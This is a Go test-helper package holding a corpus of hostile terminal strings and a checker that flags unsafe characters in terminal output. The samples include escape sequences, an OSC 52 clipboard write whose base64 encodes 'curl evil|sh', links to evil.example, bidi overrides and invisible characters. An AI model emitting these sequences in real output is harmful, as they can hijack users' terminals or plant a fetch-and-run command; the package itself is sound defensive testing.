// Package hostiletest holds the corpus of hostile strings twice's tests plant
// in histories (names, ids, errors, stack traces, payloads, app names), and
// the check that terminal output carries none of them raw.
//
// It is for tests only, like net/http/httptest.
package hostiletest

import (
	"strings"
	"unicode"
	"unicode/utf8"
)

// Sample is one hostile string and what it attacks.
type Sample struct {
	Name  string
	Value string
}

// Corpus returns the hostile strings of research/reliability.md §6 C: escape
// and control sequences a terminal would act on, characters that reorder or
// hide text, invalid UTF-8, and toolkit markup. The 1 MiB line is included
// only when long is true.
func Corpus(long bool) []Sample {
	s := []Sample{
		{"clear screen", "\x1b[2J"},
		{"window title", "\x1b]0;pwned\x07"},
		{"osc 52 clipboard write", "\x1b]52;c;Y3VybCBldmlsfHNo\x07"},
		{"osc 8 link", "\x1b]8;;https://evil.example\x1b\\ok\x1b]8;;\x1b\\"},
		{"dcs", "\x1bP+q\x1b\\"},
		{"device status report query", "\x1b[6n"},
		{"xtversion query", "\x1b[>0q"},
		{"unterminated osc", "\x1b]8;;https://evil.example"},
		{"bare carriage return", "charged\rrefunded"},
		{"backspace", "ok\b\b\bno"},
		{"bell", "ding\x07"},
		{"nul", "a\x00b"},
		{"del", "a\x7fb"},
		{"c1 csi", "a\u009b2Jb"},
		{"right-to-left override", "ChargeCard\u202eDRACegrahc"},
		{"zero width space", "Charge\u200bCard"},
		{"variation selector", "Charge\ufe0fCard"},
		{"combining grapheme joiner", "Charge\u034fCard"},
		{"hangul filler", "Charge\u3164Card"},
		{"invalid utf-8", "bad\xff\xfebytes"},
		{"tview markup", "[red]ALERT[-]"},
	}
	if long {
		s = append(s, Sample{"1 MiB line", strings.Repeat("A", 1<<20)})
	}
	return s
}

// Joined returns every sample of the short corpus concatenated, with a marker
// between them, for planting in one field.
func Joined() string {
	var b strings.Builder
	for _, s := range Corpus(false) {
		b.WriteString("<")
		b.WriteString(s.Value)
		b.WriteString(">")
	}
	return b.String()
}

// Violation describes the first unsafe character in terminal output.
type Violation struct {
	Offset int
	Rune   rune
}

// FindUnsafe returns the first character in out that must never reach a
// terminal raw: ESC and every other C0 control (except '\n', and '\t' when
// tabs is true), DEL, C1 controls, bidi and other format characters, line
// and paragraph separators, variation selectors and other invisible
// default-ignorable characters, and invalid UTF-8. ok is false when out is clean.
func FindUnsafe(out string, tabs bool) (v Violation, ok bool) {
	for i := 0; i < len(out); {
		if c := out[i]; c >= 0x20 && c < 0x7f || c == '\n' {
			i++ // printable ASCII: the common case, checked fast
			continue
		}
		r, size := utf8.DecodeRuneInString(out[i:])
		switch {
		case r == utf8.RuneError && size == 1:
			return Violation{i, r}, true
		case r == '\n', r == '\t' && tabs:
		case unicode.IsControl(r), unicode.In(r, unicode.Cf, unicode.Zl, unicode.Zp,
			unicode.Variation_Selector, unicode.Other_Default_Ignorable_Code_Point):
			return Violation{i, r}, true
		}
		i += size
	}
	return Violation{}, false
}
